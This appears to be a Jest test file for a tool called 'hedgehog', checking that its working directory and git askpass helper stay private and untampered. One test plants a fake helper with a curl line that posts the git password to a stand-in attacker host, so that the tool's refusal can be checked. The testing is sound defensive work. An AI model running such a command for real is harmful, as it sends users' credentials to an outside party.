/* eslint jest/no-standalone-expect: ["error", { "additionalTestBlockFunctions": ["rootOnly"] }] */
import { promises as fs } from 'fs';
import os from 'os';
import path from 'path';
import { askpassIn, removeAskpassHelpers } from './askpass';
import { checkWorkingDirectory } from './privateDirectory';

/** uid/gid of `nobody`: another user, for the cases only root can set up (skipped otherwise). */
const NOBODY = 65534;
const asRoot = process.getuid?.() === 0;
const rootOnly = asRoot ? it : it.skip;

describe('the working directory and the askpass helper are private', () => {
  let root: string;

  beforeEach(async () => {
    root = await fs.mkdtemp(path.join(os.tmpdir(), 'hedgehog-private-'));
  });

  afterEach(async () => {
    await removeAskpassHelpers();
    await fs.rm(root, { recursive: true, force: true });
  });

  const mode = async (p: string) => (await fs.stat(p)).mode & 0o777;

  it('creates a missing working directory (and its parents) with mode 0700', async () => {
    const dir = path.join(root, 'a', 'work');
    await checkWorkingDirectory(dir);
    expect(await mode(dir)).toBe(0o700);
    expect(await mode(path.join(root, 'a'))).toBe(0o700);
  });

  it.each([
    ['world-writable', 0o777, /writable by every user \(mode 777\)/],
    ['group-writable', 0o770, /writable by its group \(mode 770\)/],
  ])('refuses a %s working directory, and one of its folders repos/ or branches/', async (_what, bits, message) => {
    const dir = path.join(root, 'work');
    await fs.mkdir(dir);
    await fs.chmod(dir, bits);
    await expect(checkWorkingDirectory(dir)).rejects.toThrow(message);
    await expect(checkWorkingDirectory(dir)).rejects.toThrow(`the hedgehog working directory (hedgehog.workingDirectory) ${dir} is not private`);
    await fs.chmod(dir, 0o700);
    await checkWorkingDirectory(dir);
    for (const sub of ['repos', 'branches']) {
      await fs.mkdir(path.join(dir, sub));
      await fs.chmod(path.join(dir, sub), bits);
      await expect(checkWorkingDirectory(dir)).rejects.toThrow(`the folder ${sub}/ of the hedgehog working directory`);
      await fs.chmod(path.join(dir, sub), 0o755);
    }
    // readable by others but writable only by this user: accepted
    await checkWorkingDirectory(dir);
  });

  it('refuses a working directory that is a file', async () => {
    const file = path.join(root, 'file');
    await fs.writeFile(file, '');
    await expect(checkWorkingDirectory(file)).rejects.toThrow(`${file} is not private to this process's user: it is not a directory`);
  });

  rootOnly('refuses a working directory, a folder of it or a symbolic link to it owned by another user', async () => {
    const dir = path.join(root, 'work');
    await fs.mkdir(dir, { mode: 0o700 });
    await fs.chown(dir, NOBODY, NOBODY);
    await expect(checkWorkingDirectory(dir)).rejects.toThrow(/is owned by another user \(uid 65534; this process runs as uid 0\)/);
    await expect(askpassIn(dir)).rejects.toThrow(/not private/);
    await fs.chown(dir, 0, 0);
    await fs.mkdir(path.join(dir, 'repos'), { mode: 0o700 });
    await fs.chown(path.join(dir, 'repos'), NOBODY, NOBODY);
    await expect(checkWorkingDirectory(dir)).rejects.toThrow(/folder repos\/ .* is owned by another user/);
    await fs.chown(path.join(dir, 'repos'), 0, 0);
    // a link another user owns could be pointed elsewhere later
    const link = path.join(root, 'link');
    await fs.symlink(dir, link);
    await fs.lchown(link, NOBODY, NOBODY);
    await expect(checkWorkingDirectory(link)).rejects.toThrow(/symbolic link owned by another user/);
  });

  it('writes the askpass helper once per process, in a folder of its own, with mode 0700', async () => {
    const file = await askpassIn(root);
    expect(path.dirname(path.dirname(file))).toBe(root);
    expect(path.basename(path.dirname(file))).toMatch(new RegExp(`^askpass-${process.pid}-`));
    expect(await mode(file)).toBe(0o700);
    expect(await mode(path.dirname(file))).toBe(0o700);
    expect(await askpassIn(root)).toBe(file);
    // cleared (e.g. the cache was deleted): made anew
    await fs.rm(path.dirname(file), { recursive: true });
    const again = await askpassIn(root);
    expect(again).not.toBe(file);
    expect(await fs.readFile(again, 'utf8')).toMatch(/HEDGEHOG_GIT_PASSWORD/);
  });

  it('refuses to use a helper whose content, mode or owner changed', async () => {
    const file = await askpassIn(root);
    const original = await fs.readFile(file, 'utf8');
    await fs.writeFile(file, '#!/bin/sh\ncurl -d "$HEDGEHOG_GIT_PASSWORD" http://attacker.invalid\n');
    await expect(askpassIn(root)).rejects.toThrow(/is not the one this process wrote \(its content changed\); refusing to hand it credentials/);
    await fs.writeFile(file, original);
    await fs.chmod(file, 0o777);
    await expect(askpassIn(root)).rejects.toThrow(/\(mode 777\)/);
    await fs.chmod(file, 0o700);
    // swapped for a link to a script elsewhere
    const elsewhere = path.join(root, 'elsewhere.sh');
    await fs.writeFile(elsewhere, original, { mode: 0o700 });
    await fs.rm(file);
    await fs.symlink(elsewhere, file);
    await expect(askpassIn(root)).rejects.toThrow(/not a regular file/);
    await fs.rm(file);
    await fs.writeFile(file, original, { mode: 0o700 });
    expect(await askpassIn(root)).toBe(file);
  });

  rootOnly('refuses to use a helper, or a folder of it, another user owns', async () => {
    const file = await askpassIn(root);
    await fs.chown(file, NOBODY, NOBODY);
    await expect(askpassIn(root)).rejects.toThrow(/owned by uid 65534/);
    await fs.chown(file, 0, 0);
    await fs.chown(path.dirname(file), NOBODY, NOBODY);
    await expect(askpassIn(root)).rejects.toThrow(/its folder: it is owned by another user/);
  });

  it('removes the helpers of processes that are gone and the shared helper of earlier versions', async () => {
    const gone = path.join(root, 'askpass-999999999-abc123');
    await fs.mkdir(gone, { mode: 0o700 });
    await fs.writeFile(path.join(gone, 'git-askpass.sh'), 'old');
    await fs.writeFile(path.join(root, 'git-askpass.sh'), 'old shared helper');
    const file = await askpassIn(root);
    const names = await fs.readdir(root);
    expect(names).toEqual([path.basename(path.dirname(file))]);
  });
});
